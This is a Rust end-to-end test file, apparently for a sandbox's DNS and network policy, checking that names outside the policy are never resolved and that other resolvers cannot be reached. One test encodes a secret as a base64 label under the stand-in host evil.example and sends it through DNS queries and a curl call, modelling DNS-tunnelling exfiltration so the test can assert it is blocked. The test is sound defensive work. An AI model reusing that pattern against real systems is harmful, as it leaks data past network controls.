//! Names are resolved by us, at dial, and only those that were allowed.

use openshell_e2e::{Sandbox, eventually};
use openshell_testkit::http::Response;
use openshell_testkit::{Product, RunAs, world};

const POLICY: &str = "\
version: 1
network_policies:
  api:
    endpoints:
      - { host: api.example.com, port: 80 }
      - { host: '*.wild.example.com', port: 80 }
    binaries:
      - { path: /usr/bin/curl }
";

/// Looks names up, each with the system's resolver, and prints the addresses or the error's name.
const LOOK_UP: &str = r#"
import socket, sys
for name in sys.argv[1:]:
    try:
        found = sorted({entry[4][0] for entry in socket.getaddrinfo(name, 80)})
        print(name, *found)
    except socket.gaierror as error:
        print(name, "none" if error.errno == socket.EAI_NONAME else error)
"#;

/// One question of any type to any server over UDP or TCP; prints the response code and how many
/// answers there are, or what went wrong.
const ASK: &str = r#"
import socket, struct, sys
server, transport, kind, name = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00" + struct.pack("!HH", kind, 1)
family = socket.AF_INET6 if ":" in server else socket.AF_INET
try:
    if transport == "udp":
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.settimeout(3)
        s.connect((server, int(sys.argv[5])))
        s.send(question)
        answer = s.recv(4096)
    else:
        s = socket.create_connection((server, int(sys.argv[5])), 3)
        s.sendall(struct.pack("!H", len(question)) + question)
        answer = s.recv(4096)[2:]
    print("code", answer[3] & 15, "answers", struct.unpack("!H", answer[6:8])[0])
except (OSError, IndexError) as error:
    print("nothing:", type(error).__name__, error)
"#;

pub fn a07_a_name_that_no_rule_knows_is_never_asked_for(run_as: RunAs) {
    world(|w| {
        let product = Product::new(run_as);
        let sandbox = Sandbox::start(&product, "a07", POLICY);
        let secret = "c2VjcmV0LWluLWEtbGFiZWw.evil.example";
        w.dns().set(secret, &[w.fresh_v4()]);
        let said = sandbox.python(LOOK_UP, &[secret, "localhost.evil.example", "wild.example.com"]);
        let none = format!("{secret} none\nlocalhost.evil.example none\nwild.example.com none\n");
        assert_eq!(said.clone().succeeded().stdout, none, "{said}");
        // Other types, over both transports.
        for transport in ["udp", "tcp"] {
            for kind in ["1", "28", "16", "255", "65"] {
                let question = ["198.18.0.1", transport, kind, secret, "53"];
                let said = sandbox.python(ASK, &question).succeeded().stdout;
                assert_eq!(said, "code 3 answers 0\n", "{transport} {kind}");
            }
        }
        // A denied connection does not resolve its name either.
        sandbox.sh(&format!("curl -s http://{secret}/")).succeeded();

        assert_eq!(w.dns().questions(), [], "no question of the jail goes out");
        assert_eq!(w.packets_to(w.resolver().ip()), 0);
        let log = sandbox.log();
        let refused = eventually("the question is audited", || {
            log.questions().into_iter().find(|dns| dns.name.eq_ignore_ascii_case(secret))
        });
        assert_eq!(refused.predicate, "not_in_policy");
        let logs = sandbox.logs();
        assert!(logs.contains("DNS:QUERY [LOW] DENIED"), "{logs}");
    });
}

pub fn a09_other_resolvers_are_not_reached(run_as: RunAs) {
    world(|w| {
        let (v4, v6) = (w.fresh_v4(), w.fresh_v6());
        let product = Product::new(run_as);
        let sandbox = Sandbox::start(&product, "a09", POLICY);
        let name = "evil.example";
        for server in [v4, v6, w.resolver().ip()] {
            w.add_address(server);
            let server = server.to_string();
            // On port 53 it is we who answer, whatever address was asked.
            for transport in ["udp", "tcp"] {
                let question = [server.as_str(), transport, "1", name, "53"];
                let said = sandbox.python(ASK, &question).succeeded().stdout;
                assert_eq!(said, "code 3 answers 0\n", "{server} {transport}");
            }
            for port in ["853", "5353", "5355"] {
                let question = [server.as_str(), "udp", "1", name, port];
                let said = sandbox.python(ASK, &question).succeeded().stdout;
                assert!(said.starts_with("nothing:"), "{server} {port}: {said}");
            }
            let question = [server.as_str(), "tcp", "1", name, "853"];
            let said = sandbox.python(ASK, &question).succeeded().stdout;
            assert!(said.starts_with("nothing:"), "{server} over TLS: {said}");
        }
        assert_eq!(w.packets(), []);
        let log = sandbox.log();
        eventually("refused datagrams are audited", || {
            let ports: Vec<u16> = log.bypasses().iter().map(|bypass| bypass.port).collect();
            [853, 5353, 5355].iter().all(|port| ports.contains(port)).then_some(())
        });
    });
}

pub fn a_name_of_a_rule_has_an_address_of_its_own_and_no_question_goes_out(run_as: RunAs) {
    world(|w| {
        let server = w.serve_http("api.example.com", |_| Response::text("hello"));
        let product = Product::new(run_as);
        let sandbox = Sandbox::start(&product, "synthetic", POLICY);
        let names =
            ["api.example.com", "API.Example.Com", "one.wild.example.com", "api.example.com"];
        let said = sandbox.python(LOOK_UP, &names).succeeded().stdout;
        let found: Vec<Vec<&str>> =
            said.lines().map(|line| line.split(' ').skip(1).collect()).collect();
        assert_eq!(found[0], found[1], "{said}");
        assert_eq!(found[0], found[3], "{said}");
        assert_ne!(found[0], found[2], "{said}");
        assert!(found[0].iter().any(|address| address.starts_with("198.1")), "{said}");
        assert_eq!(w.dns().questions(), [], "a name is resolved when it is dialled");
        let get = "curl -sS http://api.example.com/";
        assert_eq!(sandbox.direct(get).succeeded().stdout, "hello");
        assert_eq!(server.counts().connections, 1);
        assert!(w.dns().questions_for("api.example.com") > 0);
    });
}
